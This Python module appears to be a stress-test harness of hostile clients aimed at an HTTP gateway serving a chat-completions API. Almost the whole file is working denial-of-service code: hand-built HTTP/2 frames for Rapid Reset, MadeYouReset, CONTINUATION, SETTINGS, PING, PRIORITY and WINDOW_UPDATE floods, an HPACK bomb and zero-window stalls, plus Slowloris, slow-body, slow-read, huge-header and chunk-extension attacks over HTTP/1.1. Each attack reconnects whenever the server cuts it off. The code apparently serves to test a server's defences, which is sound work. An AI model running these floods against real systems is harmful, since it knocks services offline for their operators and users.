"""Clients that mean harm, one function a flood. They run in processes of their own.

Each function attacks until `until` (time.monotonic) from an address of its own, connects again when it
is cut off, and returns how often that happened. Frames are built by hand, so that they can be wrong.
"""

import random
import socket
import struct
import time

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# GET and POST by the static table of RFC 7541.
GET, POST, HTTP, ROOT = b"\x82", b"\x83", b"\x86", b"\x84"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, prefix = len(value) - 127, b"\x7f"
    while rest >= 128:
        prefix += bytes([rest & 127 | 128])
        rest >>= 7
    return prefix + bytes([rest]) + value


def field(name, value):
    return b"\x00" + text(name) + text(value)


def head(method=GET, path="/health/liveliness", *fields):
    block = method + HTTP + field(":path", path) + field(":authority", "gateway")
    return block + b"".join(field(name, value) for name, value in fields)


class Attacker:
    """One connection of an attacker, made again whenever the server has had enough."""

    def __init__(self, target, source, settings=b"", receive_buffer=None):
        self.target, self.source, self.settings = target, source, settings
        self.receive_buffer = receive_buffer
        self.cut = 0
        self.resets = 0
        self.stream = -1
        self.connect()

    def connect(self):
        self.socket = socket.socket()
        if self.receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        self.socket.bind((self.source, 0))
        self.socket.connect(self.target)
        self.socket.settimeout(0.2)
        self.stream = -1
        self.begin()

    def begin(self):
        self.socket.sendall(PREFACE + frame(SETTINGS, payload=self.settings))

    def next_stream(self):
        self.stream += 2
        return self.stream

    def send(self, data):
        """Sends, and reads what has come; connects again when the server has closed. Returns
        whether it is still the same connection."""
        try:
            self.socket.sendall(data)
            self.socket.setblocking(False)
            try:
                while True:
                    data = self.socket.recv(1 << 16)
                    if not data:
                        raise ConnectionError
                    # RST_STREAM: four bytes of payload, type 3, no flags.
                    self.resets += data.count(b"\0\0\4\3\0")
            except BlockingIOError:
                pass
            self.socket.settimeout(0.2)
            return True
        except TimeoutError:
            return True
        except OSError:
            self.cut += 1
            self.socket.close()
            self.connect()
            return False


class PlainAttacker(Attacker):
    """The same without HTTP/2."""

    def begin(self):
        pass


# A flood goes on for its time, and until the server has had enough of it; on a machine that is busy,
# little is sent in a second. But not for ever: then it was not stopped.
PATIENCE = 20
# How much longer slow readers stay than other floods.
SLOW_READ_EXTRA = 8


def goes_on(until, cut):
    now = time.monotonic()
    return now < until or (cut == 0 and now < until + PATIENCE)


def repeat(target, source, until, make, settings=b""):
    attacker = Attacker(target, source, settings)
    while goes_on(until, attacker.cut):
        attacker.send(make(attacker))
    return attacker.cut


def rapid_reset(target, source, until):
    def make(attacker):
        block = head()
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RESET, 0, stream, struct.pack(">I", 8))
            for stream in (attacker.next_stream() for _ in range(100)))
    return repeat(target, source, until, make)


def made_you_reset(target, source, until):
    def make(attacker):
        block = head(POST, "/v1/chat/completions")
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block)
            + frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))
            for stream in (attacker.next_stream() for _ in range(100)))
    return repeat(target, source, until, make)


def continuation(target, source, until):
    def make(attacker):
        stream = attacker.next_stream()
        return frame(HEADERS, END_STREAM, stream, head()) + b"".join(
            frame(CONTINUATION, 0, stream, field(f"x-{index}", "y" * 200)) for index in range(100))
    return repeat(target, source, until, make)


def settings(target, source, until):
    block = frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * 500
    return repeat(target, source, until, lambda _: block)


def ping(target, source, until):
    block = frame(PING, payload=b"12345678") * 500
    return repeat(target, source, until, lambda _: block)


def opened(attacker):
    return frame(
        HEADERS, END_HEADERS, attacker.next_stream(), head(POST, "/v1/chat/completions"))


def empty_data(target, source, until):
    def make(attacker):
        begin = opened(attacker) if attacker.stream < 0 else b""
        return begin + frame(DATA, 0, attacker.stream) * 500
    return repeat(target, source, until, make)


def priority(target, source, until):
    def make(_):
        return b"".join(
            frame(PRIORITY, 0, random.randrange(1, 1 << 20) | 1,
                  struct.pack(">IB", random.randrange(1 << 20) & ~1, 15)) for _ in range(500))
    return repeat(target, source, until, make)


def window_update(target, source, until):
    def make(attacker):
        begin = opened(attacker) if attacker.stream < 0 else b""
        return begin + frame(WINDOW, 0, attacker.stream, struct.pack(">I", 1)) * 500
    return repeat(target, source, until, make)


def hpack_bomb(target, source, until):
    # A field of 4,000 bytes into the table, then 12,000 times by its index of one byte.
    bomb = head() + b"\x40\x01a" + text("x" * 4_000) + b"\xbe" * 12_000

    def make(attacker):
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, attacker.next_stream(), bomb)
            for _ in range(4))
    return repeat(target, source, until, make)


def huge_headers(target, source, until):
    lines = b"".join(b"X-%d: %s\r\n" % (index, b"y" * 1_000) for index in range(100))
    attacker = PlainAttacker(target, source)
    while goes_on(until, attacker.cut):
        attacker.send(b"GET / HTTP/1.1\r\nHost: a\r\n" + lines)
    return attacker.cut


def chunk_extensions(target, source, until, key):
    begin = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + key.encode()
        + b"\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    attacker = PlainAttacker(target, source)
    is_new = True
    while goes_on(until, attacker.cut):
        is_new = not attacker.send(
            (begin if is_new else b"") + (b"1;" + b"x" * 250 + b"\r\na\r\n") * 50)
    return attacker.cut


def trickle(connect, count, until, piece, interval=0.25):
    """Many connections that each say little, slowly. Returns how many were closed on them."""
    peers = [connect(index) for index in range(count)]
    cut = 0
    while goes_on(until, cut) and peers:
        left = []
        for peer in peers:
            try:
                peer.setblocking(False)
                piece(peer)
                left.append(peer)
            except BlockingIOError:
                left.append(peer)
            except OSError:
                cut += 1
                peer.close()
        peers = left
        time.sleep(interval)
    for peer in peers:
        peer.close()
    return cut


def connect_plain(target, source, receive_buffer=None):
    peer = socket.socket()
    if receive_buffer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    peer.bind((source, 0))
    peer.connect(target)
    return peer


def send_or_notice_the_end(data):
    def piece(peer):
        try:
            if not peer.recv(1 << 16):
                raise ConnectionError
        except BlockingIOError:
            pass
        peer.send(data)
    return piece


def slowloris(target, source, until, count):
    def connect(index):
        peer = connect_plain(target, source)
        peer.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
        return peer
    return trickle(connect, count, until, send_or_notice_the_end(b"x"))


def slow_body(target, source, until, count, key):
    def connect(index):
        peer = connect_plain(target, source)
        peer.sendall(
            b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer "
            + key.encode() + b"\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n")
        return peer
    return trickle(connect, count, until, send_or_notice_the_end(b" "))


def slow_read(target, source, until, count, request):
    """Returns zero: the server's end stands behind what has not been read, and is not seen."""
    def connect(index):
        peer = connect_plain(target, source, receive_buffer=4_096)
        peer.sendall(request)
        return peer

    def piece(peer):
        if not peer.recv(1):
            raise ConnectionError
    return trickle(connect, count, until + SLOW_READ_EXTRA - PATIENCE, piece)


def zero_window(target, source, until, streams, key, body):
    """Streams of long answers that are never let through. Returns how many the server ended."""
    attacker = Attacker(target, source, struct.pack(">HI", 4, 0))
    block = head(
        POST, "/v1/chat/completions", ("authorization", f"Bearer {key}"),
        ("content-type", "application/json"))
    sent = -1
    while goes_on(until, attacker.cut + attacker.resets):
        data = b""
        if sent < 0:
            data = b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
                for stream in (attacker.next_stream() for _ in range(streams)))
            data = frame(SETTINGS, 1) + data
        sent = 0 if attacker.send(data) else -1
        time.sleep(0.05)
    return attacker.cut + attacker.resets
